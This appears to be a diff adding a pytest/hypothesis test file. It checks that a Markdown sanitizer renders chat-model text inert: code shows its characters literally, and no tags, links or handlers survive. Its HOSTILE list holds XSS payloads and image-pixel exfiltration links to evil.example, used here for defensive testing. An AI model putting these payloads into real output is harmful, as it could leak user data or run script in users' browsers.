@@ -1,0 +1,197 @@
+"""Model text as Markdown, through a real Markdown and HTML parser: code shows its characters, and nothing is live."""
+
+import re
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+
+from web.rendering.markdown import inert_markdown
+
+FORMATTING = {"p", "br", "em", "strong", "s", "ul", "ol", "li", "blockquote", "hr", "code", "pre", "table", "thead"}
+FORMATTING |= {"tbody", "tr", "th", "td", "h1", "h2", "h3", "h4", "h5", "h6"}
+
+
+class Shown(HTMLParser):
+    """What a browser makes of HTML: the tags with their attributes, the text, and the text inside code."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.tags: list[tuple[str, dict[str, str | None]]] = []
+        self.text = ""
+        self.code: list[str] = []
+        self._depth = 0
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, dict(attrs)))
+        if tag == "code":
+            self._depth += 1
+            self.code.append("")
+
+    def handle_endtag(self, tag: str) -> None:
+        self._depth -= tag == "code"
+
+    def handle_data(self, data: str) -> None:
+        self.text += data
+        if self._depth:
+            self.code[-1] += data
+
+
+def show(text: str, *marks: tuple[int, str]) -> Shown:
+    """The text as the chat shows it: Markdown in GitHub's flavour, HTML let through."""
+    view = MarkdownIt("commonmark", {"html": True, "breaks": True}).enable(["table", "strikethrough"])
+    return Shown(view.render(inert_markdown(text, marks)))
+
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    '<img src=x onerror="alert(1)">',
+    "![pixel](http://evil.example/?q=secret)",
+    "![pixel][ref]\n\n[ref]: http://evil.example/x.png",
+    "[click](javascript:alert(1))",
+    "[click](<javascript:alert(1)>)",
+    "<http://evil.example>",
+    "http://evil.example and HTTPS://evil.example/a?b and ftp://evil.example",
+    "www.evil.example and _www.evil.example_ and WWW.evil.example",
+    "me@evil.example <me@evil.example> mailto:me@evil.example",
+    "&lt;img src=x&gt; &#60;b&#62; &amp;lt;",
+    "`<img src=x onerror=alert(1)>` and ``a `<b>` c``",
+    "```html\n<script>alert(1)</script>\n[a](http://evil.example)\n```\n<b>after</b>",
+    "~~~\n<i>\n~~~\n<i>",
+    "```\n<img src=x>\n\n<img src=y>",
+    "- item\n  ```\n  <img src=x>\n  ```\n- ![p](http://evil.example/x)",
+    "- ```\n  <b>\n  ```",
+    "    <img src=x>\n\n    [a](http://evil.example)",
+    "> ```\n> <img src=x>\n> ```",
+    "`` ` <b> [a](http://evil.example)",
+    "\\`<b>\\` \\[a](http://evil.example) \\<b> \\\\<b>",
+    "</code></pre><img src=x>`</code><img src=x>`",
+    "```\n</code></pre><script>alert(1)</script>\n```",
+    "```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>]\n```",
+    "<!-- <b> --> <![CDATA[<b>]]> <?php <b> ?>",
+    "| a | b |\n| --- | --- |\n| `<b>` | <img src=x> |\n",
+    "<details open ontoggle=alert(1)>",
+    "a\n<style>*{display:none}</style>",
+    "[1]: http://evil.example\n\n[1]",
+]
+BITS = st.sampled_from(
+    [
+        *(
+            "`",
+            "``",
+            "```",
+            "\n```\n",
+            "~~~",
+            "\n~~~\n",
+            "    ",
+            "\n",
+            "\n\n",
+            "\\",
+            "<",
+            ">",
+            "&",
+            "&lt;",
+            "[",
+            "](",
+            ")",
+        ),
+        *(
+            "<img src=x onerror=a>",
+            "</code>",
+            "</pre>",
+            "![a](http://e.example)",
+            "<a href=x>",
+            "www.e.example",
+            "_",
+            "*",
+        ),
+        *(
+            "- ",
+            "1. ",
+            "> ",
+            "| ",
+            "a",
+            "b c",
+            "# ",
+            "a@b.example",
+            "https://e.example",
+            "<!--",
+            "-->",
+            "&#60;",
+            ";",
+            "!",
+        ),
+    ]
+)
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_nothing_in_a_hostile_text_is_live(text: str) -> None:
+    _is_inert(text)
+
+
+@given(st.lists(BITS, max_size=25).map("".join))
+def test_nothing_is_live_however_the_parts_of_markdown_are_put_together(text: str) -> None:
+    _is_inert(text)
+
+
+def _is_inert(text: str) -> None:
+    source = inert_markdown(text)
+    assert not re.search(r"[\[`@]|://|www\.", source, re.IGNORECASE), "links and addresses need these"
+    assert set(re.findall(r"<[^>]*>?", source)) <= {"<code>", "</code>", "<pre>", "</pre>"}
+    for tag, attributes in show(text).tags:
+        assert tag in FORMATTING
+        assert attributes.keys() <= {"start", "style"}, "a list's first number, a column's alignment"
+        assert (attributes.get("style") or "text-align:").startswith("text-align:")
+
+
+@pytest.mark.parametrize(
+    ("text", "code"),
+    [
+        ("Write `a < b && x[0] == '<p>'` there.", "a < b && x[0] == '<p>'"),
+        ("Write ``a `tick` & *b*`` there.", "a `tick` & *b*"),
+        ("Write `` `a` `` there.", "`a`"),
+        ("A span over\n`two\nlines` is one.", "two lines"),
+        (
+            "So:\n```python\nif x[0] < 3:\n\n    return '&lt;' # **no**\n```\nThen.",
+            "if x[0] < 3:\n\n    return '&lt;' # **no**",
+        ),
+        ("So:\n\n~~~\n``` <b>\n~~~~\nThen.", "``` <b>"),
+        ("1. So:\n   ```\n   a[1]\n     <b>\n   ```\n2. Then.", "a[1]\n  <b>"),
+        ("So:\n\n    a[1] = <b>\n\n    c\n\nThen.", "a[1] = <b>\n\nc"),
+        ("It is still being written:\n```\nx = [1, 2]\ny <", "x = [1, 2]\ny <"),
+        ("- ```\n  x[1]\n  ```\n- Then.", "  x[1]"),
+        ("Visit `https://e.example/?a=b`.", "https://e.example/?a=b"),
+    ],
+)
+def test_code_shows_its_own_characters(text: str, code: str) -> None:
+    assert show(text).code == [code]
+
+
+def test_outside_code_every_character_shows_too() -> None:
+    text = "If a < b & c > d, see [2], me@e.example, https://e.example and x[0]; AT&amp;T says &lt;."
+    assert show(text).text.strip() == text
+    assert show("Escaped \\[x\\] and \\*stars\\* and \\<b>").text.strip() == "Escaped [x] and *stars* and <b>"
+
+
+def test_formatting_stays() -> None:
+    shown = show("# Head\n\n- **bold** and *thin*\n- ~~gone~~\n\n1. one\n\n| a | b |\n| --- | --- |\n| 1 | 2 |\n")
+    assert {"h1", "ul", "ol", "li", "strong", "em", "s", "table"} <= {tag for tag, _ in shown.tags}
+    assert "- not code\n    - nested" not in inert_markdown("- a\n\n    - nested")
+    assert show("- a\n\n    - nested").code == []
+
+
+def test_a_mark_stands_where_it_belongs_and_never_inside_code() -> None:
+    mark = "<sup>1</sup>"
+    assert show("It is so. And so.", (9, mark)).text.strip() == "It is so.1 And so."
+    shown = show("So `a. b` it is.", (7, mark), (16, "<sup>2</sup>"))
+    assert (shown.text.strip(), shown.code) == ("So a. b1 it is.2", ["a. b"])
+    block = "So:\n```\nOne.\nTwo.\n```\nEnd."
+    ends = [block.index(word) + len(word) for word in ("So:", "One.", "Two.", "End.")]
+    shown = show(block, *((end, mark) for end in ends))
+    assert shown.code == ["One.\nTwo."]
+    assert [tag for tag, _ in shown.tags] == ["p", "sup", "pre", "code", "sup", "p", "sup"]
